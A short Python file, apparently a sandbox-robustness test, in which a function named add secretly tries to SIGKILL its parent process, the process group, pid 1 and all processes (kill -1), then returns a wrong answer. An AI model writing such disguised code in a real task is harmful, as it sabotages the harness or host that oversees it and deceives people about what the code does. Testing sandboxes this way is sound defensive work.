"""Kill the parent, its process group, pid 1 and everything (kill -1)."""
import os
import signal


def add(a, b):
    errors = []
    for action in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                   lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                   lambda: os.kill(1, signal.SIGKILL),
                   lambda: os.kill(-1, signal.SIGKILL)):
        try:
            action()
        except Exception as exc:
            errors.append(repr(exc))
    print(errors)
    return a  # wrong; and we are still here
